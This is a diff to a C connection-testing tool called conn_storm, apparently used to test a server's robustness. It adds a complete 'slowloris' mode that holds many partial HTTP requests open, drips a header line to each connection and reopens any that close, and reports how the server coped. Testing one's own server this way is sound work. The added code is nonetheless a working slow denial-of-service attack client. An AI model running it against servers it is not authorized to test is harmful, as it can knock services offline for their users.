@@ -11,6 +11,13 @@
  *     Opens N connections at once (non-blocking), sends each a unique
  *     token, keeps all open until every token came back, prints
  *     "client: OK/N ok". Exits 0 only if all N round trips succeeded.
+ *   conn_storm slowloris IP PORT N SECONDS
+ *     An abusive HTTP client: keeps N connections open for SECONDS, each
+ *     sending a partial request (request line and Host, never the end of
+ *     the headers) and one more header line every 2 s. A connection the
+ *     server closes is reopened 1 s later, to keep the pressure on. Prints
+ *     "slowloris: O opened, C closed by the server, longest held H s,
+ *     M open at most" and exits 0 (2 on bad arguments).
  *
  * Every wait is bounded by TIMEOUT_S.
  */
@@ -24,6 +31,7 @@
 #include <string.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
+#include <sys/time.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -231,6 +239,127 @@ static int client(const char *ip, int port, long n, double timeout)
 	return done == n ? 0 : 1;
 }
 
+/* ---- slowloris ------------------------------------------------------------ */
+
+#define DRIP_S 2.0 /* a header line this often */
+#define REOPEN_S 1.0 /* a closed connection comes back after this */
+
+struct loris {
+	int fd; /* -1 while waiting to reopen */
+	double opened, next; /* next: the next drip, or the reopen */
+	unsigned int lines;
+};
+
+struct loris_stats {
+	long opened, closed, open_now, open_max;
+	double held_max;
+};
+
+static void loris_open(struct loris *l, const struct sockaddr_in *a,
+		       const char *ip, struct loris_stats *st)
+{
+	struct timeval tv = { .tv_sec = 1 };
+	char req[128];
+	int n;
+
+	l->fd = socket(AF_INET, SOCK_STREAM, 0);
+	if (l->fd < 0)
+		return;
+	/* Blocking connect (a refused one must not spin), bounded by the
+	 * send timeout in case the listen queue is full. */
+	setsockopt(l->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+	if (connect(l->fd, (const struct sockaddr *)a, sizeof(*a))) {
+		close(l->fd);
+		l->fd = -1;
+		l->next = now_s() + REOPEN_S;
+		return;
+	}
+	set_nonblock(l->fd);
+	n = snprintf(req, sizeof(req),
+		     "POST /api/cells/peer-sync/accept-invite HTTP/1.1\r\n"
+		     "Host: %s\r\n",
+		     ip);
+	if (write(l->fd, req, (size_t)n) != n) {
+		close(l->fd);
+		l->fd = -1;
+		l->next = now_s() + REOPEN_S;
+		return;
+	}
+	l->opened = now_s();
+	l->next = l->opened + DRIP_S;
+	l->lines = 0;
+	st->opened++;
+	if (++st->open_now > st->open_max)
+		st->open_max = st->open_now;
+}
+
+/* The server closed it (EOF, reset or an answer): count and schedule. */
+static void loris_closed(struct loris *l, struct loris_stats *st)
+{
+	double held = now_s() - l->opened;
+
+	if (held > st->held_max)
+		st->held_max = held;
+	close(l->fd);
+	l->fd = -1;
+	l->next = now_s() + REOPEN_S;
+	st->closed++;
+	st->open_now--;
+}
+
+static void loris_drip(struct loris *l, struct loris_stats *st)
+{
+	char line[48];
+	int n = snprintf(line, sizeof(line), "X-Slow-%u: x\r\n", l->lines++);
+
+	if (write(l->fd, line, (size_t)n) != n)
+		loris_closed(l, st);
+	else
+		l->next = now_s() + DRIP_S;
+}
+
+static int slowloris(const char *ip, int port, long n, double seconds)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET,
+				 .sin_port = htons((uint16_t)port) };
+	struct loris *l = calloc((size_t)n, sizeof(*l));
+	struct pollfd *pfd = calloc((size_t)n, sizeof(*pfd));
+	struct loris_stats st = { 0 };
+	double end = now_s() + seconds;
+	long i;
+
+	if (!l || !pfd || inet_pton(AF_INET, ip, &a.sin_addr) != 1)
+		return 2;
+	for (i = 0; i < n; i++)
+		l[i].fd = -1;
+	while (now_s() < end) {
+		for (i = 0; i < n; i++) {
+			if (l[i].fd < 0 && now_s() >= l[i].next &&
+			    now_s() < end)
+				loris_open(&l[i], &a, ip, &st);
+			else if (l[i].fd >= 0 && now_s() >= l[i].next)
+				loris_drip(&l[i], &st);
+			pfd[i].fd = l[i].fd;
+			pfd[i].events = POLLIN;
+		}
+		if (poll(pfd, (nfds_t)n, 100) < 0 && errno != EINTR)
+			return 2;
+		for (i = 0; i < n; i++)
+			if (l[i].fd >= 0 && pfd[i].revents)
+				loris_closed(&l[i], &st);
+	}
+	for (i = 0; i < n; i++) /* the ones still open count too */
+		if (l[i].fd >= 0 && now_s() - l[i].opened > st.held_max)
+			st.held_max = now_s() - l[i].opened;
+	printf("slowloris: %ld opened, %ld closed by the server, longest held "
+	       "%.1f s, %ld open at most\n",
+	       st.opened, st.closed, st.held_max, st.open_max);
+	for (i = 0; i < n; i++)
+		if (l[i].fd >= 0)
+			close(l[i].fd);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 5 && !strcmp(argv[1], "server")) {
@@ -242,7 +371,13 @@ int main(int argc, char **argv)
 		return client(argv[2], atoi(argv[3]), atol(argv[4]),
 			      atof(argv[5]));
 	}
+	if (argc == 6 && !strcmp(argv[1], "slowloris")) {
+		raise_fd_limit(atol(argv[4]));
+		return slowloris(argv[2], atoi(argv[3]), atol(argv[4]),
+				 atof(argv[5]));
+	}
 	fprintf(stderr, "usage: conn_storm server PORT N TIMEOUT_S\n"
-			"       conn_storm client IP PORT N TIMEOUT_S\n");
+			"       conn_storm client IP PORT N TIMEOUT_S\n"
+			"       conn_storm slowloris IP PORT N SECONDS\n");
 	return 2;
 }
